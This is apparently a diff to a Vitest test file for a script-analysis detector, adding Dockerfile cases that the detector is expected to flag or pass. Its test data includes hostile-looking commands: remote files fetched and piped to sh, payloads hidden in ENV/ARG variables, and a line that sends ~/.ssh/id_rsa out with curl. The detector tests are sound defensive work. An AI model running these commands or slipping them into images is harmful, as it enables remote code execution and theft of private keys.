@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { judgeScript } from '../scripts.ts';
 
 const SHELL = { buildsImage: false, hashComments: true, shell: 'posix' } as const;
+const IMAGE = { buildsImage: true, hashComments: true, shell: 'dockerfile' } as const;
 const U = 'http://127.0.0.1:9/x';
 
 describe('what commands of a script do with what others brought', () => {
@@ -101,5 +102,25 @@ describe('what commands of a script do with what others brought', () => {
       'remote-code/fetched-code',
     );
     expect(found(`print("ls -la")`)).toBeUndefined();
+  });
+
+  it.each([
+    ['a file of another layer', `RUN curl -so /t/i ${U}\nRUN chmod +x /t/i`, 'fetched-code'],
+    ['a file that is added', `ADD ${U} /opt/\nCMD ["sh", "/opt/x"]`, 'fetched-code'],
+    ['names of the image', `ENV G="curl -s"\nARG U=${U}\nRUN $G $U | sh`, 'fetched-code'],
+    ['a file that is written', `COPY <<E /x\ncurl ${U} | sh\nE\nENTRYPOINT sh /x`, 'fetched-code'],
+    ['a folder of the image', `WORKDIR /a\nRUN curl -sO ${U} && cd /\nRUN sh ./x`, 'fetched-code'],
+    ['a key that is sent', `RUN cat ~/.ssh/id_rsa | curl -T - ${U}`, 'attacking-script'],
+  ])('follows an image through %s', (_, text, rule) => {
+    expect(judgeScript(`FROM y\n${text}`, IMAGE)?.rule.id).toBe(`remote-code/${rule}`);
+  });
+
+  it.each([
+    ['a text that is written', `COPY <<E /etc/motd\ncurl ${U} | sh\nE\nRUN echo "curl ${U} | sh"`],
+    ['an installer of its maker', 'RUN curl -LsSf https://astral.sh/uv/install.sh \\\n  # quietly\n  | sh'],
+    ['what is told by its digest', `ADD --checksum=sha256:0 ${U} /x\nRUN sh /x`],
+    ['its own health', 'HEALTHCHECK CMD curl -f http://localhost/ || exit 1'],
+  ])('minds no more of an image than it must: %s', (_, text) => {
+    expect(judgeScript(`FROM y\n${text}`, IMAGE)).toBeNull();
   });
 });
